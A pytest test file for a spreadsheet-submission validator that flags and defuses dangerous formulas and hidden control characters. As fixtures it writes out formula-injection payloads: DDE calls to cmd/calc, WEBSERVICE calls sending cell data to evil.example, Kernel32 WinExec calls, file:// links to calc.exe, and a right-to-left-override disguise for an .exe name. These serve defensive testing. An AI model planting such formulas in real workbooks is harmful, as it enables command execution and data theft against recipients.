"""Formulas that reach outside a workbook and invisible control characters are flagged and never passed on live."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from builders import HEADER, activity, write_xlsx
from hostile_files import _ODS_NS, ods_bytes

from itu_contrib.annotation import annotate_workbook
from itu_contrib.cli import main
from itu_contrib.reading import load

#: (cell, formula) in column T, which has no header: found wherever they sit in a sheet read.
DANGEROUS = {
    "T2": "=cmd|' /C calc'!A0",
    "T3": '=WEBSERVICE("http://evil.example/?"&A2)',
    "T4": '=FILTERXML(WEBSERVICE("http://evil.example/x"),"//a")',
    "T5": '=HYPERLINK("file:///C:/Windows/System32/calc.exe","open")',
    "T6": "=[1]Prices!B2",
    "T7": '=CALL("Kernel32","WinExec","JCJ","calc.exe",0)',
    "T8": '=REGISTER("Kernel32","WinExec","JCJ")',
    "T9": "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
}
SAFE = {
    "T10": "=SUM(1,2)",
    "T11": '=HYPERLINK("https://www.itu.int/","ITU")',
    "T12": '=A2&" | "&B2',
}


def formula_workbook(path: Path) -> Path:
    """A submission as a sender's Excel would save it: activity rows, and formulas beside the table."""
    rows = [HEADER] + [activity(n) for n in range(1, 12)]
    write_xlsx(path, {"Activities": rows})
    wb = openpyxl.load_workbook(path)
    ws = wb["Activities"]
    for ref, formula in {**DANGEROUS, **SAFE}.items():
        ws[ref] = formula
    wb.calculation.fullCalcOnLoad = True  # as a hostile sender would set it
    wb.save(path)
    return path


def test_dangerous_formulas_are_warnings_at_their_cells(tmp_path: Path) -> None:
    """DDE, web, native-call, external-workbook and non-web HYPERLINK formulas are dangerous-formula warnings."""
    result = load(formula_workbook(tmp_path / "f.xlsx"))
    found = {p.cell: p for p in result.problems if p.code == "dangerous-formula"}
    assert set(found) == set(DANGEROUS)
    assert all(p.severity == "warning" and p.sheet == "Activities" for p in found.values())
    assert found["T2"].value == DANGEROUS["T2"]
    assert "DDE" in found["T2"].message
    assert "WEBSERVICE" in found["T3"].message


def test_dangerous_formula_in_ods(tmp_path: Path) -> None:
    """An ODS cell whose formula calls a web service is a dangerous-formula warning at its cell."""
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    header = "".join(cell.format(h) for h in HEADER)
    formula = (
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)" '
        'office:value-type="string"><text:p>x</text:p></table:table-cell>'
    )
    data = "".join(cell.format(v if v is not None else "") for v in activity(1)[:2]) + formula
    rows = f"<table:table-row>{header}</table:table-row><table:table-row>{data}</table:table-row>"
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} office:version="1.3">'
        f'<office:body><office:spreadsheet><table:table table:name="Activities">{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "f.ods"
    path.write_bytes(ods_bytes(content))
    found = [(p.sheet, p.cell) for p in load(path).problems if p.code == "dangerous-formula"]
    assert found == [("Activities", "C2")]


def test_annotated_copy_neither_recalculates_nor_keeps_dangerous_formulas(tmp_path: Path) -> None:
    """The annotated copy does not force recalculation; dangerous formulas become text, others stay formulas."""
    source = formula_workbook(tmp_path / "f.xlsx")
    dest = annotate_workbook(source, list(load(source).problems), tmp_path / "out.xlsx")
    with zipfile.ZipFile(dest) as zf:
        assert b"fullCalcOnLoad" not in zf.read("xl/workbook.xml").replace(b'fullCalcOnLoad="0"', b"")
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(zf.read(n) for n in sheets)
        assert not [n for n in zf.namelist() if "externalLink" in n]
    assert b"<f>SUM(1,2)</f>" in xml
    for formula in DANGEROUS.values():
        body = formula[1:].replace("&", "&amp;").replace('"', "&quot;").encode()
        assert b"<f>" + body not in xml
        assert b"<f>" + body.replace(b"&quot;", b'"') not in xml
    ws = openpyxl.load_workbook(dest)["Activities"]
    for ref, formula in DANGEROUS.items():
        assert ws[ref].data_type == "s"
        assert ws[ref].value == formula
        assert ws[ref].quotePrefix
    for ref, formula in SAFE.items():
        assert ws[ref].data_type == "f"
        assert ws[ref].value == formula


RLO = "\u202e"
CONTROLS = {"D2": f"Invoice {RLO}fdp.exe", "E3": "Training\x1b[31m in red", "J4": "ongoing\u2066"}


def control_workbook(path: Path) -> Path:
    """A workbook whose title, description and status cells hold a bidi override, an escape and an isolate."""
    rows = [HEADER, activity(1, title=CONTROLS["D2"]), activity(2, description=CONTROLS["E3"]), activity(3)]
    rows.append(activity(4))
    rows[2] = activity(2, description="Training ESCAPE[31m in red")
    write_xlsx(path, {"Activities": rows})
    wb = openpyxl.load_workbook(path)
    wb["Activities"]["J4"] = CONTROLS["J4"]
    wb.save(path)
    # XML cannot hold U+001B: Excel writes it as _x001B_, which readers decode
    with zipfile.ZipFile(path) as zf:
        members = {n: zf.read(n).replace(b"ESCAPE", b"_x001B_") for n in zf.namelist()}
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def test_control_characters_are_warnings_at_their_cells(tmp_path: Path) -> None:
    """Bidi overrides and C0 control characters in text cells are control-character warnings at their cells."""
    assert [HEADER[i] for i in (3, 4, 9)] == ["Activity title", "Description", "Status"]  # columns D, E, J
    result = load(control_workbook(tmp_path / "c.xlsx"))
    found = {p.cell: p for p in result.problems if p.code == "control-character"}
    assert set(found) == set(CONTROLS)
    assert "U+202E" in found["D2"].message
    assert RLO not in (found["D2"].value or "")
    assert "U+001B" in found["E3"].message


def test_csv_input_control_characters(tmp_path: Path) -> None:
    """A CSV cell holding a right-to-left override is a warning at its cell too."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(HEADER)
    writer.writerow(["" if v is None else v for v in activity(1, partners=f"Cisco{RLO}")])
    path = tmp_path / "c.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    cells = [p.cell for p in load(path).problems if p.code == "control-character"]
    assert cells == [f"{chr(ord('A') + HEADER.index('Partners'))}2"]


def test_text_outputs_escape_control_characters(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The terminal, CSV and XLSX outputs show bidi overrides and escapes as codes, never raw."""
    path = control_workbook(tmp_path / "c.xlsx")
    main(["validate", str(path), "--year", "2025"])
    shown = capsys.readouterr().out
    assert RLO not in shown
    assert "\x1b" not in shown
    assert "\\u202e" in shown
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"tagged{suffix}"
        assert main(["tag", str(path), "--year", "2025", "-o", str(out), "--no-suggest"]) in (0, 1)
        if suffix == ".csv":
            text = out.read_text(encoding="utf-8")
        else:
            wb = openpyxl.load_workbook(out)
            text = "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row)
        assert RLO not in text
        assert "\x1b" not in text
        assert "\u2066" not in text
        assert "Invoice \\u202efdp.exe" in text


# -- xls (BIFF8): formulas are stored as tokens, found by itu_contrib.readers.biff_formulas -----------------------

XLS_DATA = Path(__file__).parent / "data" / "formulas"


def test_dangerous_formulas_in_xls_made_by_libreoffice() -> None:
    """An .xls saved by LibreOffice with a DDE call and a link to another file: warnings at their cells only.

    tests/data/formulas/dde-external.xls is dde-external.fods (in the same folder) converted by LibreOffice
    (`soffice --headless --convert-to xls`): T2 holds DDE("cmd"; " /C calc"; "A0"), T3 a cell of another file,
    T4 =SUM(1;2), which stays unflagged.
    """
    result = load(XLS_DATA / "dde-external.xls")
    found = {p.cell: p for p in result.problems if p.code == "dangerous-formula"}
    assert set(found) == {"T2", "T3"}
    assert found["T2"].value == "=cmd|' /C calc'!A0"
    assert "DDE" in found["T2"].message
    assert "another workbook" in found["T3"].message
    assert "prices.ods" in str(found["T3"].value)
    assert len(result.frame) == 3  # the activities are read as usual


def test_dangerous_formulas_in_xls_read_by_the_second_reader() -> None:
    """The same cells are found when xlrd (the second reader) reads the file."""
    from itu_contrib.defaults import Limits
    from itu_contrib.readers.workbook import _xlrd_grids

    grids, _ = _xlrd_grids(XLS_DATA / "dde-external.xls", Limits())
    assert set(grids[0].dangerous) == {(1, 19), (2, 19)}


def _record(rtype: int, data: bytes) -> bytes:
    import struct

    return struct.pack("<HH", rtype, len(data)) + data


def _biff_with_addin_calls() -> bytes:
    """A BIFF8 stream, made by hand to MS-XLS: a future function (WEBSERVICE), CALL, and a defined name."""
    import struct

    def short(text: str) -> bytes:  # ShortXLUnicodeString, 8-bit
        return bytes([len(text), 0]) + text.encode("latin-1")

    def nameX(ixti: int, iname: int) -> bytes:
        return b"\x39" + struct.pack("<HHH", ixti, iname, 0)

    def string(text: str) -> bytes:
        return b"\x17" + short(text)

    def formula(row: int, col: int, rgce: bytes) -> bytes:
        return _record(
            0x0006, struct.pack("<HHH", row, col, 15) + b"\x00" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce
        )

    web = nameX(1, 1) + string("http://evil.example/") + b"\x42\x02\xff\x00"  # _xlfn.WEBSERVICE(...)
    call = string("Kernel32") + string("WinExec") + b"\x42\x02\x96\x00"  # CALL(...): function 150
    plain = b"\x1e\x01\x00\x1e\x02\x00\x03"  # =1+2
    sheet = _record(0x0809, b"\x00\x06\x10\x00" + b"\x00" * 12)
    sheet += formula(1, 2, web) + formula(2, 2, call) + formula(3, 2, plain) + _record(0x000A, b"")
    name = b"\x00\x00\x00" + bytes([4]) + struct.pack("<H", 7) + b"\x00\x00" + b"\x00\x00" + b"\x00" * 4
    name_record = _record(0x0018, name + b"\x00feed" + nameX(1, 1))
    links = (
        _record(0x01AE, struct.pack("<HH", 1, 0x0401))
        + _record(0x01AE, struct.pack("<HH", 1, 0x3A01))
        + _record(0x0023, b"\x00\x00" + b"\x00" * 4 + short("_xlfn.WEBSERVICE"))
        + _record(0x0017, struct.pack("<H", 2) + struct.pack("<HHH", 0, 0, 0) + struct.pack("<HHH", 1, 0xFFFE, 0xFFFE))
    )
    bof = _record(0x0809, b"\x00\x06\x05\x00" + b"\x00" * 12)

    def globals_(at: int) -> bytes:
        bound = _record(0x0085, struct.pack("<I", at) + b"\x00\x00" + short("Activities"))
        return bof + bound + links + name_record + _record(0x000A, b"")

    return globals_(len(globals_(0))) + sheet


def test_xls_tokens_of_addin_and_call_functions_and_names() -> None:
    """Tokens naming _xlfn.WEBSERVICE or CALL are found at their cells, a defined name calling the web by name."""
    from itu_contrib.readers.biff_formulas import xls_links

    found = xls_links(_biff_with_addin_calls())
    assert found.cells == {"Activities": {(1, 2): "=_xlfn.WEBSERVICE(...)", (2, 2): "=CALL(...)"}}
    assert found.names == [("feed", "=_xlfn.WEBSERVICE(...)")]
    names = xls_links(_biff_with_addin_calls(), names_only=True)  # the globals only
    assert (names.names, names.cells) == (found.names, {})


def test_xls_walk_never_raises_on_damaged_streams() -> None:
    """Every truncation of the stream is walked without an exception (what is understood is returned)."""
    from itu_contrib.readers.biff_formulas import xls_links

    stream = _biff_with_addin_calls()
    for end in range(0, len(stream), 7):
        xls_links(stream[:end])
    assert xls_links(b"garbage" * 10).cells == {}


def test_defined_name_reaching_outside_is_a_warning(tmp_path: Path) -> None:
    """A defined name whose formula calls a web service is a dangerous-formula warning naming the name."""
    from openpyxl.workbook.defined_name import DefinedName

    path = tmp_path / "names.xlsx"
    write_xlsx(path, {"Activities": [HEADER, activity(1)]})
    wb = openpyxl.load_workbook(path)
    wb.defined_names["feed"] = DefinedName("feed", attr_text='WEBSERVICE("http://evil.example/")')
    wb.defined_names["area"] = DefinedName("area", attr_text="Activities!$A$1:$B$2")
    wb.save(path)
    found = [p for p in load(path).problems if p.code == "dangerous-formula"]
    assert len(found) == 1
    assert "'feed'" in found[0].message
    assert "WEBSERVICE" in found[0].message
    assert found[0].cell is None
    # the annotated copy drops the name that calls the web, and keeps the one naming cells of the workbook
    copy = openpyxl.load_workbook(annotate_workbook(path, list(load(path).problems), tmp_path / "out.xlsx"))
    assert "feed" not in copy.defined_names
    assert copy.defined_names["area"].attr_text == "Activities!$A$1:$B$2"


def test_xlsb_external_link_is_a_warning_for_the_workbook(tmp_path: Path) -> None:
    """An .xlsb with an external link part: one dangerous-formula warning naming where the link points."""
    from hostile_files import xlsb_bytes, xlsb_record, xlsb_sheet

    path = tmp_path / "linked.xlsb"
    path.write_bytes(xlsb_bytes({"Activities": xlsb_sheet([HEADER, [str(v) if v else None for v in activity(1)]])}))
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="file:///C:/finance/prices.xlsx" TargetMode="External"/>'
        "</Relationships>"
    )
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("xl/externalLinks/externalLink1.bin", xlsb_record(0x0167) + xlsb_record(0x0168))
        zf.writestr("xl/externalLinks/_rels/externalLink1.bin.rels", rels)
    found = [p for p in load(path).problems if p.code == "dangerous-formula"]
    assert [(p.value, p.cell) for p in found] == [("file:///C:/finance/prices.xlsx", None)]
    assert ".xlsb" in found[0].message
    assert ".xlsx" in (found[0].hint or "")
